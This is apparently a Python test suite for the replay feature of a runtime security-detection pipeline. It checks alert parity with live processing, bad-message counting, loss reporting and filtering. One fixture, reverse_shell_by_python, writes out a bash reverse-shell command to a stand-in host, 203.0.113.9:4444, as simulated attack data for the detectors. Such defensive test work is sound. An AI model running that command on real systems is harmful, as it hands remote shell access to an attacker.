# SPDX-License-Identifier: Apache-2.0
"""A replay: what it says is what was said live, what it could not read it tells, and it keeps no order."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

from schemas.codec import encode
from stream_apps.correlate.pods import PodTable
from stream_apps.pipeline import Pipeline
from stream_apps.replay.report import Asked, build
from stream_apps.replay.session import MAX_NAMED, Received, Replay
from stream_apps.replay.tally import Tally, Wanted
from tests.support.batches import SECOND, Load, Node, pod_record
from tests.support.stream import config, whole_config

if TYPE_CHECKING:
    from collections.abc import Iterable

    from stream_apps.config.document import StreamConfig

ATTACKS = 3


EVIL = "203.0.113.9"


def reverse_shell_by_python(node: Node) -> int:
    web = node.service("/usr/bin/python3.11", ["python3", "shop.py"])
    bash = node.spawn(web, "/usr/bin/bash", ["bash", "-c", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"])
    node.connect(bash, EVIL, 4444)
    return node.exec(bash, "/usr/bin/bash", ["bash", "-i"], stdio=["INET"] * 3, stdio_peer=f"{EVIL}:4444")


def fresh(settings: StreamConfig | None = None) -> Pipeline:
    pods = PodTable()
    pods.put(pod_record())
    return Pipeline(settings or config(), pods)


def received(batches: Iterable[dict[str, Any]]) -> list[Received]:
    return [
        Received(f"nsp.events/0@{number}", encode("EventBatch", batch), batch["clock"]["wall_ns"])
        for number, batch in enumerate(batches)
    ]


def attacked_batches() -> list[dict[str, Any]]:
    """Attacks a quarter of an hour apart, so that each is news."""
    node, batches = Node(), []
    for _ in range(ATTACKS):
        reverse_shell_by_python(node)
        batches.append(node.batch())
        node.now_ns += 900 * SECOND
    return batches


def replayed(messages: list[Received], since_ns: int = 0, tally: Tally | None = None) -> Replay:
    replay = Replay(fresh(), tally or Tally(), since_ns)
    for each in messages:
        replay.take(each)
    return replay


def ids(replay: Replay) -> list[str]:
    return [each["id"] for row in replay.tally.alerts.values() for each in row.examples]


def test_a_replay_says_what_was_said_live_with_the_same_ids() -> None:
    batches = attacked_batches()
    live = fresh()
    said = []
    for batch in batches:
        # Live, a batch is decided on a little later than it was made.
        said += live.process(batch, batch["clock"]["wall_ns"] + SECOND // 3).alerts
    assert len(said) >= ATTACKS
    assert sorted(ids(replayed(received(batches)))) == sorted(each["id"] for each in said)


def test_with_all_detectors_on_a_replay_says_what_was_said_live() -> None:
    batches = [*attacked_batches(), *Load(strangers=True).batches(20)]
    live, said = fresh(whole_config()), []
    for batch in batches:
        said += live.process(batch, batch["clock"]["wall_ns"]).alerts
    replay = Replay(fresh(whole_config()), Tally(), 0)
    for each in received(batches):
        replay.take(each)
    assert len({each["rule_id"] for each in said}) > 1
    rows = replay.tally.alerts.values()
    assert sum(row.count for row in rows) == len(said)
    assert {each["id"] for row in rows for each in row.examples} <= {each["id"] for each in said}


def test_what_was_told_before_the_time_asked_for_is_no_news() -> None:
    node = Node()
    root = reverse_shell_by_python(node)
    first = node.batch()
    node.connect(root, "203.0.113.9", 4444)
    second = node.batch()
    messages = received([first, second])
    since_ns = messages[1].wall_ns
    assert ids(replayed(messages, since_ns)) == []
    assert ids(replayed(messages[1:], since_ns)) != []  # without the memory it would be news
    assert replayed(messages, since_ns).figures.remembered == 1


def test_bad_messages_are_counted_and_named_and_the_rest_is_replayed() -> None:
    batches = attacked_batches()
    good = received(batches)
    empty = encode("EventBatch", {**batches[1], "processes": []})
    at = good[0].wall_ns
    bad = [
        Received("nsp.events/3@7", b"\x00nonsense", at),
        Received("nsp.events/3@8", None, at),
        Received("nsp.events/3@9", empty, at),
    ]
    replay = replayed([good[0], *bad, *good[1:]])
    assert sorted(ids(replay)) == sorted(ids(replayed(good)))
    assert replay.figures.unusable == {"decode": 2, "correlate": 1}
    assert [each.place for each in replay.figures.named] == [each.place for each in bad]
    document = build(replay, Asked(0, at)).document
    assert not document["complete"]
    assert document["unusable"]["messages"] == len(bad)


def test_a_flood_of_bad_messages_is_counted_whole_and_named_in_part() -> None:
    replay = replayed([Received(f"nsp.events/0@{each}", b"", 1) for each in range(MAX_NAMED + 5)])
    assert replay.figures.unusable["decode"] == MAX_NAMED + 5
    assert len(replay.figures.named) == MAX_NAMED


def test_losses_and_gaps_of_the_time_asked_for_are_told_with_their_node() -> None:
    lossy, clean = Node(name="lossy"), Node(name="clean")
    batches = []
    for round_number in range(4):
        for node in (lossy, clean):
            service = node.service("/usr/sbin/nginx")
            node.connect(service, "10.2.0.9", 5432)
            if node is lossy and round_number == 1:
                node.lose(7)  # before the time asked for
            if node is lossy and round_number == 3:
                node.lose(5)
                node.position += 960
            node.connect(service, "10.2.0.9", 5432)
            batches.append(node.batch())
            node.now_ns += SECOND
    messages = received(batches)
    replay = replayed(messages, messages[4].wall_ns)
    document = build(replay, Asked(0, 1)).document
    assert not document["complete"]
    assert document["missing"]["lost"] == 5
    assert [each["node"] for each in document["missing"]["nodes"]] == ["lossy"]
    assert build(replayed(received(Load().batches(3))), Asked(0, 1)).document["complete"]


def test_only_what_is_asked_for_is_reported() -> None:
    messages = received(attacked_batches())
    everything = ids(replayed(messages))
    none = replayed(messages, tally=Tally(Wanted(namespaces=("bank",))))
    assert (ids(none), none.tally.passed_over) == ([], len(everything))
    by_owner = replayed(messages, tally=Tally(Wanted(workloads=("shop/Deployment/*",))))
    assert ids(by_owner) == everything
    assert ids(replayed(messages, tally=Tally(Wanted(rules=("sigma.*",))))) == []


def test_groups_beyond_the_bound_are_counted() -> None:
    batches: list[dict[str, Any]] = []
    node = Node()
    for _ in range(3):
        service = node.service("/usr/sbin/nginx", workload=1)
        node.refuse(service, f"203.0.113.{len(batches)}", 443, reason="ADDRESS", generation=5)
        batches.append(node.batch())
    tally = Tally(max_groups=1)
    replayed(received(batches), tally=tally)
    assert len(tally.alerts) == 1
    assert tally.beyond["alerts"] == 2
